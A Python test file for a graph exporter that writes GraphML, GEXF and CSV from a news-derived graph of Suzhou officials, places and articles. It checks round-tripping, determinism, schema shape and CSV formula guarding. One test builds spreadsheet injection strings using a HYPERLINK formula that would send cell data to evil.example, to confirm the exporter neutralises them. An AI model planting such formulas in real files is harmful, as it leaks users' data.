"""GraphML, GEXF and CSV exports: readable by their own readers, flat, deterministic."""

from __future__ import annotations

import csv
import json
from xml.etree import ElementTree

import networkx as nx
import pytest
from test_rdf_export import HOSTILE, hostile_graph, sample_graph

from graph.export.formats import LAYOUT_MAX_COMPONENT, write_csv, write_gexf, write_graphml
from graph.export.layout import compute_layout
from graph.export.styles import type_style


def test_graphml_reads_back_with_json_attributes(tmp_path):
    [path] = write_graphml(sample_graph(), tmp_path / "g.graphml")
    back = nx.read_graphml(path, force_multigraph=True)
    assert back.number_of_nodes() == 9 and back.number_of_edges() == 13
    assert json.loads(back.nodes["place:320500"]["aliases"]) == ["苏州"]
    evidence = json.loads(back.edges["person:周乃翔", "org:苏州市委", "holds_post|书记"]["evidence"])
    assert [e["doc"] for e in evidence] == ["a2", "a1"]
    assert json.loads(back.graph["articles"])["a1"]["authors"] == ["胡毓菁", "王专"]


def test_gexf_reads_back_with_labels(tmp_path):
    [path] = write_gexf(sample_graph(), tmp_path / "g.gexf")
    back = nx.read_gexf(path)
    assert back.nodes["place:320509"]["label"] == "吴江区"
    assert back.number_of_edges() == 13
    assert "lastmodifieddate" not in path.read_text(encoding="utf-8")


def test_csv_writes_nodes_and_edges_next_to_path(tmp_path):
    paths = write_csv(sample_graph(), tmp_path / "demo.csv")
    assert [p.name for p in paths] == [
        "demo.nodes.csv",
        "demo.edges.csv",
        "demo.articles.csv",
        "demo.evidence.csv",
    ]
    nodes = list(csv.DictReader(paths[0].open(encoding="utf-8")))
    edges = list(csv.DictReader(paths[1].open(encoding="utf-8")))
    assert nodes[0]["id"] == "org:吴江区委" and json.loads(nodes[0]["articles"]) == ["a1", "a2"]
    assert len(edges) == 13
    post = next(e for e in edges if e["relation"] == "holds_post")
    assert (post["source"], post["target"], post["title"], post["as_of"]) == (
        "person:周乃翔",
        "org:苏州市委",
        "书记",
        "2017-09-19",
    )


@pytest.mark.parametrize("writer,reader", [(write_graphml, nx.read_graphml), (write_gexf, nx.read_gexf)])
def test_xml_formats_survive_hostile_and_control_characters(tmp_path, writer, reader):
    # XML parsers turn a bare \r in element text into \n by design, so leave \r out here.
    name = HOSTILE.replace("\r", "") + "\x00\x0b"
    [path] = writer(hostile_graph(name, name), tmp_path / "h.xml")
    back = reader(path)
    assert {attrs.get("name") for _, attrs in back.nodes(data=True)} == {name[:-2] + "\ufffd\ufffd"}


def test_csv_keeps_hostile_strings_exactly(tmp_path):
    nodes_path, *_ = write_csv(hostile_graph(HOSTILE, HOSTILE), tmp_path / "h.csv")
    with nodes_path.open(encoding="utf-8", newline="") as handle:
        assert {row["name"] for row in csv.DictReader(handle)} == {HOSTILE}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_look_like_formulas_are_made_inert(tmp_path, start):
    formula = start + 'HYPERLINK("http://evil.example/?"&A1,"点击")'
    nodes_path, edges_path, *_ = write_csv(hostile_graph(formula, formula), tmp_path / "f.csv")
    with nodes_path.open(encoding="utf-8", newline="") as handle:
        names = {row["name"] for row in csv.DictReader(handle)}
    with edges_path.open(encoding="utf-8", newline="") as handle:
        titles = {row["title"] for row in csv.DictReader(handle)}
    assert names == titles == {"'" + formula}


@pytest.mark.parametrize("writer", [write_graphml, write_gexf, write_csv])
def test_same_graph_gives_same_bytes(tmp_path, writer):
    first = [p.read_bytes() for p in writer(sample_graph(), tmp_path / "a" / "g.out")]
    second = [p.read_bytes() for p in writer(sample_graph(), tmp_path / "b" / "g.out")]
    assert first == second


# ------------------------------------------------------------ issue 15: exports Gephi reads well

GEXF_NS = "{http://www.gexf.net/1.2draft}"
VIZ_NS = "{http://www.gexf.net/1.2draft/viz}"


def expected_drawing(G):
    """node -> (r, g, b) of its type's colour, and its page position with y pointing up."""
    positions = compute_layout(G)
    drawing = {}
    for node, kind in G.nodes(data="type"):
        colour = type_style(kind).colour
        rgb = tuple(int(colour[i : i + 2], 16) for i in (1, 3, 5))
        drawing[node] = (colour, rgb, (positions[node][0], -positions[node][1]))
    return drawing


def test_graphml_nodes_carry_label_type_colour_and_position(tmp_path):
    G = sample_graph()
    [path] = write_graphml(G, tmp_path / "g.graphml")
    back = nx.read_graphml(path, force_multigraph=True)
    for node, (colour, rgb, (x, y)) in expected_drawing(G).items():
        attrs = back.nodes[node]
        assert (attrs["label"], attrs["type"], attrs["color"]) == (
            G.nodes[node]["name"],
            G.nodes[node]["type"],
            colour,
        )
        assert (attrs["r"], attrs["g"], attrs["b"]) == rgb and (attrs["x"], attrs["y"]) == (x, y)
    assert type_style("Place").colour == back.nodes["place:320500"]["color"]
    post = back.edges["person:周乃翔", "org:苏州市委", "holds_post|书记"]
    assert post["label"] == "holds_post 书记"
    assert back.edges["place:320509", "place:320500", "located_in|"]["label"] == "located_in"


def test_gexf_nodes_carry_viz_colour_and_position(tmp_path):
    G = sample_graph()
    [path] = write_gexf(G, tmp_path / "g.gexf")
    back = nx.read_gexf(path)
    for node, (_, (r, g, b), (x, y)) in expected_drawing(G).items():
        viz = back.nodes[node]["viz"]
        assert viz["color"] == {"r": r, "g": g, "b": b, "a": 1.0}
        assert viz["position"] == {"x": x, "y": y, "z": 0.0}
        assert back.nodes[node]["label"] == G.nodes[node]["name"] and back.nodes[node]["type"]
    assert {d["label"] for *_, d in back.edges(data=True)} >= {"holds_post 书记", "runs", "located_in"}


def test_gexf_has_the_shape_of_the_1_2_schema(tmp_path):
    """What the GEXF 1.2draft and viz schemas ask of the elements written, checked offline."""
    [path] = write_gexf(sample_graph(), tmp_path / "g.gexf")
    root = ElementTree.parse(path).getroot()
    assert root.tag == f"{GEXF_NS}gexf" and root.get("version") == "1.2"
    [graph] = root.findall(f"{GEXF_NS}graph")
    assert graph.get("defaultedgetype") == "directed" and graph.get("mode") == "static"
    declared = {}
    for attributes in graph.findall(f"{GEXF_NS}attributes"):
        for attribute in attributes.findall(f"{GEXF_NS}attribute"):
            assert attribute.get("type") in {"integer", "long", "double", "float", "boolean", "string"}
            declared[(attributes.get("class"), attribute.get("id"))] = attribute.get("type")
    nodes = graph.findall(f"{GEXF_NS}nodes/{GEXF_NS}node")
    assert len(nodes) == 9
    for node in nodes:
        assert node.get("id") and node.get("label")
        [colour] = node.findall(f"{VIZ_NS}color")
        assert all(0 <= int(colour.get(c)) <= 255 for c in "rgb") and 0 <= float(colour.get("a")) <= 1
        [position] = node.findall(f"{VIZ_NS}position")
        assert all(float(position.get(axis)) == float(position.get(axis)) for axis in "xyz")  # no "None"
        for value in node.iter(f"{GEXF_NS}attvalue"):
            assert ("node", value.get("for")) in declared
    ids = {node.get("id") for node in nodes}
    for edge in graph.findall(f"{GEXF_NS}edges/{GEXF_NS}edge"):
        assert edge.get("source") in ids and edge.get("target") in ids and edge.get("label")
        for value in edge.iter(f"{GEXF_NS}attvalue"):
            assert ("edge", value.get("for")) in declared


def test_adcodes_are_text_in_every_export_even_when_given_as_numbers(tmp_path):
    G = sample_graph()
    G.nodes["place:320509102"]["adcode"] = 320509102  # as a notebook user might set it
    G.nodes["place:320509102"]["parent_adcode"] = 320509
    [graphml] = write_graphml(G, tmp_path / "g.graphml")
    assert nx.read_graphml(graphml).nodes["place:320509102"]["adcode"] == "320509102"
    assert 'attr.name="adcode" attr.type="string"' in graphml.read_text(encoding="utf-8")
    [gexf] = write_gexf(G, tmp_path / "g.gexf")
    assert nx.read_gexf(gexf).nodes["place:320509102"]["parent_adcode"] == "320509"
    assert 'title="adcode" type="string"' in gexf.read_text(encoding="utf-8")


def test_a_graph_too_big_to_lay_out_here_is_written_without_positions(tmp_path):
    G = nx.MultiDiGraph(nx.path_graph([f"person:{i}" for i in range(LAYOUT_MAX_COMPONENT + 1)]))
    nx.set_node_attributes(G, "Person", "type")
    [path] = write_gexf(G, tmp_path / "big.gexf")
    viz = nx.read_gexf(path).nodes["person:0"]["viz"]
    assert "position" not in viz and viz["color"]["r"] == int(type_style("Person").colour[1:3], 16)


def read_rows(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_of_articles(tmp_path):
    _, _, articles, _ = write_csv(sample_graph(), tmp_path / "demo.csv")
    assert articles.name == "demo.articles.csv"
    rows = read_rows(articles)
    assert list(rows[0]) == [
        "id",
        "title",
        "date",
        "source",
        "authors",
        "editors",
        "url",
        "path",
        "also_from",
    ]
    assert rows[0] == {
        "id": "a1",
        "title": "苏州:锻造“红色引擎”",
        "date": "2017-09-19",
        "source": "新华日报",
        "authors": "胡毓菁; 王专",
        "editors": "罗毅",
        "url": "http://example.com/a1?x=1&y=2",
        "path": "seeds/a1.txt",
        "also_from": "dup/a1.html",
    }
    assert (rows[1]["id"], rows[1]["authors"], rows[1]["date"]) == ("a2", "", "'--09-23")  # a formula guard


def test_csv_of_evidence_one_row_per_sentence(tmp_path):
    G = sample_graph()
    *_, evidence = write_csv(G, tmp_path / "demo.csv")
    rows = read_rows(evidence)
    assert len(rows) == sum(len(d.get("evidence", ())) for *_, d in G.edges(data=True))
    assert list(rows[0])[:8] == ["relation", "head", "tail", "title", "article", "start", "end", "sentence"]
    posts = [r for r in rows if r["relation"] == "holds_post"]
    assert [(r["head"], r["tail"], r["title"], r["article"], r["start"], r["sentence"]) for r in posts] == [
        ("周乃翔", "苏州市委", "书记", "a2", "0", "周乃翔书记指出。"),
        ("周乃翔", "苏州市委", "书记", "a1", "0", "苏州市委书记周乃翔说。"),
    ]
    located = next(r for r in rows if r["sentence"] == "吴江区位于苏州市。")
    assert (located["head_id"], located["tail_id"], located["start"], located["end"]) == (
        "place:320509",
        "place:320500",
        "50",
        "59",
    )


def test_evidence_csv_guards_formula_sentences(tmp_path):
    *_, evidence = write_csv(hostile_graph("+3+3活动", "@SUM(5)"), tmp_path / "f.csv")
    [row] = read_rows(evidence)
    assert (row["head"], row["sentence"]) == ("'+3+3活动", "'@SUM(5)")


def test_a_carriage_return_inside_a_cell_does_not_split_the_csv_row(tmp_path):
    nodes, _, _, evidence = write_csv(hostile_graph("甲\r乙", "一句\r两行。"), tmp_path / "r.csv")
    assert {row["name"] for row in read_rows(nodes)} == {"甲\r乙"}
    assert [row["sentence"] for row in read_rows(evidence)] == ["一句\r两行。"]
